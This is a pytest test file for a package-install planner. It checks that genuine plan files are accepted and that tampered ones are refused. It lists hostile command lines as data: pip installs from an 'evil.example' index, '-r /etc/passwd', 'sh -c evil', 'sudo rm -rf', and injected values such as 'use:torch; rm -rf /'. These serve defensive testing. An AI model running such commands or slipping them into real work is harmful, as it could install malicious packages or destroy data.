"""Plan files: what the planner writes is accepted, what anybody else could have written is not."""

from __future__ import annotations

import copy
import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import tiny
from hypothesis import given, settings
from hypothesis import strategies as st

from compat.description import load
from compat.install import known, templates
from compat.install.errors import BadPlan
from compat.install.planfile import from_data
from compat.install.templates import Conda, Create, Fetch, Install, Uninstall
from compat.machine import Machine
from compat.matrix import Matrix
from compat.plan.asking.request import requests
from compat.plan.commands import conda, jetson
from compat.plan.commands import python as installers
from compat.plan.model import Choice
from compat.plan.ways.several import plan_for
from compat.report.plan import as_data

DESCRIBED = sorted((tiny.ROOT / "tests" / "machines" / "described").glob("*.toml"))
ASKED = (
    {"torch": "*"},
    {"tensorflow": "*"},
    {"jax": "*"},
    {"onnxruntime": "*"},
    {"tensorrt": "*"},
    {"torch": "2.6", "tensorrt": "*"},
)


@pytest.mark.parametrize("file", DESCRIBED, ids=lambda file: file.stem)
def test_every_plan_of_ours_is_accepted(matrix: Matrix, file: Path) -> None:
    names = known.names(matrix)
    machines = list(load(str(file)))
    for asked in ASKED:
        for plan in plan_for(
            machines, requests(asked), matrix, None, frozenset({"python", "driver", "container"}), "installed", False
        ):
            data = json.loads(json.dumps(as_data(plan, matrix)))
            read = from_data(data, names)
            assert len(read.steps) == len(plan.steps)
            for step, planned in zip(read.steps, plan.steps, strict=True):
                assert (step.action is None) == (not planned.commands)


MACHINE = Machine(os="linux", interpreter="/env/bin/python")
TEMPLATES = {
    "install": (installers.install(MACHINE, "", ("torch==2.6.0", "numpy<2")), Install(("torch==2.6.0", "numpy<2"))),
    "index": (
        installers.install(MACHINE, "", ("torch==2.6.0+cu124",), f"{installers.PYTORCH}cu124"),
        Install(("torch==2.6.0+cu124",), f"{installers.PYTORCH}cu124"),
    ),
    "extra": (
        installers.install(MACHINE, "", ("tensorrt-cu12==10.9.0.34",), None, installers.NVIDIA),
        Install(("tensorrt-cu12==10.9.0.34",), None, installers.NVIDIA),
    ),
    "uninstall": (installers.uninstall(MACHINE, "", ("onnxruntime",)), Uninstall(("onnxruntime",))),
    "environment": (installers.environment(MACHINE, None, ".venv"), Create(None)),
    "python": (installers.environment(MACHINE, "3.11", ".venv-torch"), Create("3.11")),
    "windows": (installers.environment(Machine(os="windows"), "3.11", ".venv"), Create("3.11")),
    "conda": (conda.install((("cudatoolkit", "11.2"),)), Conda((("cudatoolkit", "11.2"),))),
    "conda-folder": (
        conda.install((("pytorch", "2.6.0=cuda126*"),), ".venv"),
        Conda((("pytorch", "2.6.0=cuda126*"),)),
    ),
    "conda-create": (conda.environment(MACHINE, "3.11", ".venv", "12"), Create("3.11")),
    "jetson": (
        jetson.install(
            MACHINE, "", Choice("torch", "torch", "0", index="x", variant="v51", row={"file": "torch-1.whl"})
        ),
        Fetch(f"{jetson.REDIST}/v51/pytorch/torch-1.whl"),
    ),
}


@pytest.mark.parametrize("name", TEMPLATES)
def test_templates_are_read_back(name: str) -> None:
    commands, action = TEMPLATES[name]
    assert templates.same_action([command.argv for command in commands]) == action


PIP = ("python", "-m", "pip", "install")
REFUSED = [
    (*PIP, "torch==2.6.0", "--index-url", "https://evil.example/simple"),
    (*PIP, "torch==2.6.0", "--index-url", f"{installers.PYTORCH}../../evil"),
    (*PIP, "torch==2.6.0", "--extra-index-url", "https://evil.example"),
    (*PIP, "torch==2.6.0", "--target", "/"),
    (*PIP, "torch==2.6.0", "--pre"),
    (*PIP, "--index-url", f"{installers.PYTORCH}cu124", "torch==2.6.0"),
    (*PIP, "-r", "/etc/passwd"),
    (*PIP, "-e", "."),
    (*PIP, "."),
    (*PIP, "/tmp/evil.whl"),
    (*PIP, "torch @ https://evil.example/torch.whl"),
    (*PIP, "torch==2.6.0; import os"),
    (*PIP, "torch==2.6.0 --hash=x"),
    (*PIP, "https://evil.example/torch-1.whl"),
    (*PIP, f"{jetson.REDIST}/v51/pytorch/../../evil.whl"),
    (*PIP, f"{jetson.REDIST}/v51/pytorch/torch-1.whl", "--no-deps"),
    (*PIP, "git+https://evil.example/x"),
    PIP,
    ("python", "-m", "pip", "config", "set", "global.index-url", "https://evil.example"),
    ("python", "-c", "print(1)"),
    ("python", "-m", "evil", "install", "torch==2.6.0"),
    ("--", "-m", "pip", "install", "torch==2.6.0"),
    ("uv", "pip", "install", "--python", "--index-url", "torch==2.6.0"),
    ("uv", "run", "evil"),
    ("uv", "venv", "/etc"),
    ("python", "-m", "venv", "../.venv"),
    ("python", "-m", "venv", "--clear", ".venv"),
    ("conda", "install", "--yes", "--channel", "evil", "cudnn=8.1"),
    ("conda", "install", "--yes", "--channel", "conda-forge", "evil::cudnn=8.1"),
    ("conda", "run", "evil"),
    ("mamba", "install", "--yes", "--prefix", "/", "--channel", "conda-forge", "cudnn=8.1"),
    ("pixi", "add", "--manifest-path", "/etc", "python=3.12"),
    ("pixi", "add", "--manifest-path", ".venv", "--pypi", "evil"),
    ("pixi", "init", "--channel", "evil", "--platform", "linux-64", ".venv"),
    ("pixi", "run", "--manifest-path", ".venv", "evil"),
    ("sudo", "apt-get", "install", "--yes", "nvidia-driver-580", "evil"),
    ("sudo", "apt-get", "install", "--yes", "/tmp/nvidia-driver-580"),
    ("sudo", "apt-get", "remove", "--yes", "nvidia-driver-580"),
    ("sudo", "rm", "-rf", "/580"),
    ("sudo", "reboot", "now"),
    ("sh", "-c", "evil"),
]


@pytest.mark.parametrize("argv", REFUSED, ids=" ".join)
def test_other_commands_are_refused(argv: tuple[str, ...]) -> None:
    with pytest.raises(BadPlan):
        templates.read(argv)


@given(st.lists(st.sampled_from([*{word for argv in REFUSED for word in argv}, "torch==2.6.0", "--yes"]), max_size=8))
@settings(max_examples=500, deadline=None)
def test_whatever_is_accepted_is_what_the_planner_writes(argv: list[str]) -> None:
    """Words of attacks in any order: only lists without one of the attackers' words get through."""
    try:
        templates.read(argv)
    except BadPlan:
        return
    assert not any(
        "evil" in word or word.startswith(("/", "git+", "--pre", "--target", "-e", "-r")) for word in argv[1:]
    )


def edited(change: Any) -> dict[str, Any]:
    plan = copy.deepcopy(tiny.plan())
    change(plan)
    return plan


def _command(plan: dict[str, Any], *argv: str, shell: str | None = None) -> None:
    plan["steps"][0]["commands"][0].update(argv=list(argv), shell=shell or shlex.join(argv))


ATTACKS = {
    "unknown key": lambda plan: plan.update(run="evil"),
    "missing key": lambda plan: plan.pop("result"),
    "other schema": lambda plan: plan.update(schema="compatcheck.plan/2"),
    "steps no list": lambda plan: plan.update(steps={"0": {}}),
    "too many steps": lambda plan: plan.update(steps=plan["steps"] * 500),
    "shown is not run": lambda plan: _command(plan, *PIP, "onnx==1.18.0", shell="python -m pip install onnx==1.17.0"),
    "typosquat": lambda plan: _command(plan, *PIP, "onnxx==1.18.0"),
    "typosquat removed": lambda plan: _command(plan, "python", "-m", "pip", "uninstall", "--yes", "onnxx"),
    "two meanings": lambda plan: plan["steps"][0]["commands"].append(tiny.command("python", "install", "onnx==1.17.0")),
    "terminal escape": lambda plan: plan["steps"][0].update(why=[{"rule": "x", "message": "\x1b[2Jok", "source": ""}]),
    "line break in a version": lambda plan: plan["steps"][0].update(to="1.18.0\n$ harmless"),
    "component": lambda plan: plan["steps"][0].update(component="../onnx"),
    "kind": lambda plan: plan["steps"][0].update(kind="setting"),
    "hidden root": lambda plan: _command(plan, "sudo", "apt-get", "install", "--yes", "nvidia-driver-580"),
    "root flag": lambda plan: plan["steps"][0].update(needs_root=True),
    "flag no bool": lambda plan: plan["steps"][0].update(reversible="yes"),
    "goal": lambda plan: plan.update(goal="use:torch; rm -rf /"),
    "request": lambda plan: plan.update(request={"onnx": "==1.18.0 --pre"}),
    "result": lambda plan: plan.update(result={"os": "plan9"}),
    "installer": lambda plan: plan["steps"][0]["commands"][0].update(installer="sh"),
    "argv of numbers": lambda plan: plan["steps"][0]["commands"][0].update(argv=[1, 2]),
    "empty argv": lambda plan: plan["steps"][0]["commands"][0].update(argv=[], shell=""),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_edited_plan_is_refused(matrix: Matrix, name: str) -> None:
    assert from_data(tiny.plan(), known.names(matrix)).steps
    with pytest.raises(BadPlan):
        from_data(edited(ATTACKS[name]), known.names(matrix))


def test_an_edited_plan_changes_nothing(env: Path, tmp_path: Path) -> None:
    plan = edited(ATTACKS["typosquat"])
    done = tiny.compatcheck("install", str(tiny.write_plan(tmp_path / "p.json", plan)), "--python", str(env), "--yes")
    assert done.returncode == 2
    assert "onnxx" in done.stderr


@pytest.mark.parametrize("text", ["", "{", "[]", "null", "\x00", '{"schema": 1}', "[" * 100_000])
def test_no_plan_at_all(env: Path, tmp_path: Path, text: str) -> None:
    file = tmp_path / "p.json"
    file.write_text(text)
    done = tiny.compatcheck("install", str(file), "--python", str(env), "--yes")
    assert done.returncode == 2
    assert done.stderr.startswith("error:")


def test_the_interpreter_of_a_plan_is_not_run(env: Path, tmp_path: Path, offline: dict[str, str]) -> None:
    """A plan for another environment's interpreter is refused, not followed."""
    proof = tmp_path / "was-run"
    evil = tmp_path / "python"
    evil.write_text(f"#!/bin/sh\ntouch {proof}\n")
    evil.chmod(0o755)
    plan = tiny.plan(tiny.step("onnx", "1.17.0", "1.18.0", "install", "onnx==1.18.0", python=str(evil)))
    file = tiny.write_plan(tmp_path / "p.json", plan)
    done = tiny.compatcheck("install", str(file), "--python", str(env), "--yes", **offline)
    assert done.returncode == 2
    assert not proof.exists()


_LEAVES = st.none() | st.booleans() | st.integers() | st.text(max_size=5)
_NAMES = st.text(max_size=8)
_VALUES = st.recursive(
    _LEAVES, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_NAMES, inner, max_size=3), max_leaves=8
)


@given(_VALUES, st.sampled_from(sorted(tiny.plan())))
@settings(max_examples=300, deadline=None)
def test_any_value_in_any_place(value: Any, key: str) -> None:
    """Nothing but BadPlan comes out, whatever stands there."""
    plan = tiny.plan()
    for place, name in (
        (plan, key),
        (plan["steps"][0], "commands"),
        (plan["steps"][1], "why"),
        (plan["steps"][0], "to"),
    ):
        changed = copy.deepcopy(plan)
        target = changed if place is plan else changed["steps"][plan["steps"].index(place)]
        target[name] = value
        try:
            from_data(changed, lambda _: True)
        except BadPlan:
            continue
